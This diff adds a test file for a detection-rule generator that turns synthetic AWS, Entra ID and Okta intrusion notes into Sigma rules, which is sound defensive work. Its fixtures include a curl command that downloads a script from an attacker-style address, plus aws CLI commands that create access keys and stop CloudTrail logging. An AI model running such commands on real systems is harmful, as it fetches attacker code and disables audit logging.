@@ -1,0 +1,121 @@
+import { selfTestGenerated } from '../generation/self-test-generated';
+import { validateRuleDocument } from '../validate/validate-rule';
+import { fidelityCheck } from '../vetting/fidelity';
+import { detectionValues } from '../vetting/detection-values';
+import { generateBuiltinRules, type BuiltinSigmaInput } from './builtin-sigma-agent';
+import { statedCloudBehaviours } from './cloud-rules';
+
+// Cloud and identity intrusions written for these tests: what an AWS, Entra ID or Okta write-up says, in the
+// words such write-ups use. None comes from a fixture article.
+
+const article = { title: 'Synthetic cloud intrusion note', url: 'https://notes.example.org/cloud', date: '2026-11-27' };
+const evidence = { start: 0, end: 1, text: 'x' };
+
+const AWS_NOTE = `The actor used a leaked AWS access key. In CloudTrail we saw sts:GetCallerIdentity, then s3:ListBuckets and
+secretsmanager:ListSecrets from 198.51.100.23. It then called iam:CreateAccessKey for a second user and
+AttachUserPolicy with AdministratorAccess, and finally StopLogging on the organisation trail.`;
+
+const ENTRA_NOTE = `After the AiTM phish, the operator signed in to Entra ID from 203.0.113.77 and registered a new MFA method
+(an authenticator app) on the victim's account, then consented to a malicious OAuth app.`;
+
+const OKTA_NOTE = `The Okta System Log showed user.mfa.factor.reset_all for the help desk account, followed by
+system.api_token.create from 192.0.2.44.`;
+
+const ip = (value: string) => ({ value, kind: 'ipv4' as const, evidence, confidence: 0.9 });
+const observables = (ips: string[]) => ips.map((value) => ({ type: 'ipv4', value }));
+
+function rulesOf(content: string, ips: string[], extra: Partial<BuiltinSigmaInput> = {}) {
+  return generateBuiltinRules({ article, platform: 'cross-platform', content, network: ips.map(ip), ...extra });
+}
+
+describe('cloud and identity behaviour rules', () => {
+  it('writes one CloudTrail rule per behaviour the article names, keyed on eventSource and eventName', () => {
+    const drafts = rulesOf(AWS_NOTE, ['198.51.100.23']).filter((draft) => draft.telemetryClass === 'cloud_audit');
+    expect(drafts.map((draft) => draft.rule.title).sort()).toEqual([
+      'AWS CloudTrail Logging Stopped Or Trail Modified',
+      'AWS IAM Access Key Or Console Password Created',
+      'AWS IAM Permissions Granted To A User, Role Or Group',
+    ]);
+    const trail = drafts.find((draft) => draft.rule.title.startsWith('AWS CloudTrail'));
+    expect(trail?.rule.logsource).toEqual({ product: 'aws', service: 'cloudtrail' });
+    expect(trail?.rule.detection['selection']).toEqual({
+      eventSource: 'cloudtrail.amazonaws.com',
+      eventName: ['StopLogging', 'DeleteTrail', 'UpdateTrail', 'PutEventSelectors'],
+    });
+  });
+
+  it('gives routine calls no rule of their own: the addresses are swept in CloudTrail, naming the calls', () => {
+    const drafts = rulesOf(AWS_NOTE, ['198.51.100.23']);
+    expect(drafts.some((draft) => draft.rule.title.includes('Discovery'))).toBe(false);
+    expect(drafts.filter((draft) => draft.telemetryClass === 'network_connection')).toEqual([]);
+    const sweep = drafts.find((draft) => draft.telemetryClass === 'cloud_indicator');
+    expect(sweep?.rule.detection['selection']).toEqual({ sourceIPAddress: ['198.51.100.23'] });
+    expect(sweep?.rule.description).toContain('ListBuckets');
+  });
+
+  it('keeps an endpoint connection rule when the article also quotes commands', () => {
+    const cmdline = { value: 'curl -s http://198.51.100.23/x.sh -o /tmp/x.sh', executable: 'curl', evidence, confidence: 0.9 };
+    const drafts = rulesOf(AWS_NOTE, ['198.51.100.23'], { cmdlines: [cmdline] });
+    expect(drafts.some((draft) => draft.telemetryClass === 'network_connection')).toBe(true);
+    expect(drafts.some((draft) => draft.telemetryClass === 'cloud_indicator')).toBe(false);
+  });
+
+  it('reads Entra ID behaviours from prose and sweeps the addresses in the sign-in logs', () => {
+    const drafts = rulesOf(ENTRA_NOTE, ['203.0.113.77']);
+    const titles = drafts.map((draft) => draft.rule.title);
+    expect(titles).toContain('Entra ID Authentication Method Registered');
+    expect(titles).toContain('Entra ID Application Granted Consent Or Permissions');
+    const mfa = drafts.find((draft) => draft.rule.title === 'Entra ID Authentication Method Registered');
+    expect(mfa?.rule.logsource).toEqual({ product: 'azure', service: 'auditlogs' });
+    const sweep = drafts.find((draft) => draft.telemetryClass === 'cloud_indicator');
+    expect(sweep?.rule.logsource).toEqual({ product: 'azure', service: 'signinlogs' });
+    expect(sweep?.rule.detection['selection']).toEqual({ IPAddress: ['203.0.113.77'] });
+  });
+
+  it('keys Okta rules on eventType', () => {
+    const drafts = rulesOf(OKTA_NOTE, ['192.0.2.44']).filter((draft) => draft.rule.logsource['product'] === 'okta');
+    expect(drafts.map((draft) => draft.rule.detection['selection'])).toEqual(
+      expect.arrayContaining([
+        { eventType: ['user.mfa.factor.deactivate', 'user.mfa.factor.reset_all'] },
+        { eventType: 'system.api_token.create' },
+        { 'client.ipAddress': ['192.0.2.44'] },
+      ]),
+    );
+  });
+
+  it.each([
+    ['AWS', AWS_NOTE, ['198.51.100.23']],
+    ['Entra ID', ENTRA_NOTE, ['203.0.113.77']],
+    ['Okta', OKTA_NOTE, ['192.0.2.44']],
+  ])('every %s rule is valid, backed by the text, and fires on the audit records the article describes', (_, content, ips) => {
+    const drafts = rulesOf(content, ips).filter((draft) => draft.telemetryClass.startsWith('cloud_'));
+    expect(drafts.length).toBeGreaterThan(1);
+    for (const draft of drafts) {
+      const rule = draft.rule as unknown as Record<string, unknown>;
+      expect(validateRuleDocument(rule).findings).toEqual([]);
+      expect(fidelityCheck(detectionValues(rule), [content, ...ips])).toEqual({ ok: true, unsupported_values: [] });
+      expect(selfTestGenerated(rule, observables(ips), content).fires).toBe(true);
+    }
+  });
+
+  it('does not fire a cloud rule on the records of another behaviour', () => {
+    const [trail] = rulesOf(AWS_NOTE, []).filter((draft) => draft.rule.title.startsWith('AWS CloudTrail'));
+    const okOnly = 'In AWS CloudTrail the actor called CreateAccessKey.';
+    expect(selfTestGenerated(trail?.rule as unknown as Record<string, unknown>, [], okOnly).fires).toBe(false);
+  });
+
+  it('reads the call an AWS CLI command makes', () => {
+    const stated = statedCloudBehaviours(
+      'On the EC2 host the actor ran `aws iam create-access-key --user-name svc-ci` and `aws cloudtrail stop-logging --name org`.',
+    );
+    expect(stated.map(({ behaviour, events }) => [behaviour.id, events])).toEqual([
+      ['aws-cloudtrail-stopped', ['StopLogging']],
+      ['aws-iam-credentials-created', ['CreateAccessKey']],
+    ]);
+  });
+
+  it('reads event names only in an article about the provider', () => {
+    expect(statedCloudBehaviours('The installer calls CreateUser and then StopLogging on its own service.')).toEqual([]);
+    expect(statedCloudBehaviours('Recommendation: review your policies.')).toEqual([]);
+  });
+});
